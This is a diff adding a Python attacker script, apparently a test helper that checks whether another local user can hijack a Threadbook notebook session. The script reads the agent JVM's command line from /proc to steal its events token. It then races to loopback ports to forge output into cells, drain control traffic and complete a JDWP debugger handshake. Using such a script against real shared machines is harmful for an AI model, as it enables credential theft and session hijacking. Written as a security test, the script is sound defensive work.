@@ -1,0 +1,150 @@
+# Another local user attacking a Threadbook session (run by LocalAttackIT, as user nobody or as the
+# victim's own uid). It watches /proc for the agent JVM, reads its command line (world-readable) and races
+# the agent to the kernel's loopback ports. Everything it sees or achieves goes to stdout, one line each.
+#
+# usage: attacker.py SECONDS KERNEL_PID MODE TARGET...
+#   KERNEL_PID: only the agent of this kernel is attacked (other sessions on the machine are left alone)
+#   MODE steal: use a token found on the agent's command line (a wrong one if there is none)
+#   MODE blind: never use it: connect with a wrong secret, and with nothing at all
+#   TARGET events | control | debug
+import os, socket, struct, sys, threading, time
+
+seconds, kernel, mode, targets = float(sys.argv[1]), sys.argv[2], sys.argv[3], set(sys.argv[4:])
+deadline = time.time() + seconds
+lock = threading.Lock()
+FORGED = b"FORGED BY THE ATTACKER\n"
+
+
+def say(*words):
+    with lock:
+        print(*words, flush=True)
+
+
+def agents():
+    for pid in os.listdir('/proc'):
+        if pid.isdigit():
+            try:
+                with open('/proc/%s/cmdline' % pid, 'rb') as f:
+                    args = f.read().split(b'\0')
+                if b'threadbook.agent.ThreadbookAgent' in args:
+                    with open('/proc/%s/status' % pid) as f:
+                        if ('PPid:\t%s\n' % kernel) not in f.read():
+                            continue
+            except OSError:
+                continue
+            if b'threadbook.agent.ThreadbookAgent' in args:
+                yield pid, [a.decode('utf-8', 'replace') for a in args if a]
+
+
+def connect(port):
+    while time.time() < deadline:
+        try:
+            return socket.create_connection(('127.0.0.1', port), timeout=2)
+        except OSError:
+            time.sleep(0.001)
+    return None
+
+
+def drain(name, s):
+    """Reads whatever the kernel sends us: input replies, JShell commands, JDWP packets."""
+    got = 0
+    s.settimeout(0.5)
+    while time.time() < deadline:
+        try:
+            data = s.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError as e:
+            say(name, 'CLOSED', e)
+            return
+        if not data:
+            say(name, 'CLOSED by the kernel after', got, 'bytes')
+            return
+        got += len(data)
+        say(name, 'RECEIVED', data.hex())
+
+
+def forge(s):
+    # Stream events (Event.STREAM = 1) into every cell the victim may run.
+    for _ in range(int(seconds)):
+        try:
+            for cell in range(0, 12):
+                s.sendall(struct.pack('>BqBi', 1, cell, 1, len(FORGED)) + FORGED)
+        except OSError:
+            return
+        time.sleep(1)
+
+
+def attack_events(port, token):
+    secret = token if (mode == 'steal' and token) else '0' * 64
+    s = connect(port)
+    if s is None:
+        return
+    say('events CONNECTED with', 'stolen token' if secret == token else 'a wrong secret')
+    try:
+        s.sendall((secret + '\n').encode())
+    except OSError:
+        pass
+    threading.Thread(target=forge, args=(s,), daemon=True).start()
+    threading.Thread(target=drain, args=('events', s), daemon=True).start()
+    if mode == 'blind':
+        silent = connect(port)
+        if silent is not None:
+            say('events CONNECTED silently')
+            threading.Thread(target=drain, args=('events-silent', silent), daemon=True).start()
+
+
+def attack_control(port):
+    s = connect(port)
+    if s is None:
+        return
+    say('control CONNECTED silently')
+    threading.Thread(target=drain, args=('control', s), daemon=True).start()
+    if mode == 'blind':
+        wrong = connect(port)
+        if wrong is not None:
+            wrong.sendall(b'0' * 64 + b'\n')
+            say('control CONNECTED with a wrong secret')
+            threading.Thread(target=drain, args=('control-wrong', wrong), daemon=True).start()
+
+
+def attack_debug(port):
+    s = connect(port)
+    if s is None:
+        return
+    try:
+        s.settimeout(5)
+        hello = s.recv(14)
+        if hello == b'JDWP-Handshake':
+            s.sendall(hello)
+            say('debug HANDSHAKE done: the kernel takes us for the Java process')
+    except OSError as e:
+        say('debug CLOSED', e)
+        return
+    threading.Thread(target=drain, args=('debug', s), daemon=True).start()
+
+
+seen = set()
+while time.time() < deadline:
+    for pid, args in agents():
+        if pid in seen:
+            continue
+        seen.add(pid)
+        say('AGENT', pid, ' '.join(args))
+        token, events, debug = None, None, None
+        for a in args:
+            if a.startswith('-Dthreadbook.events.token='):
+                token = a.split('=', 1)[1]
+            if a.startswith('-Dthreadbook.events.port='):
+                events = int(a.split('=', 1)[1])
+            if a.startswith('-agentlib:jdwp=') and 'address=' in a:
+                debug = int(a.split('address=', 1)[1].split(',')[0].rsplit(':', 1)[1])
+        control = int(args[-1])
+        if 'debug' in targets and debug:
+            threading.Thread(target=attack_debug, args=(debug,), daemon=True).start()
+        if 'control' in targets:
+            threading.Thread(target=attack_control, args=(control,), daemon=True).start()
+        if 'events' in targets and events:
+            threading.Thread(target=attack_events, args=(events, token), daemon=True).start()
+    time.sleep(0.001)
+say('DONE')
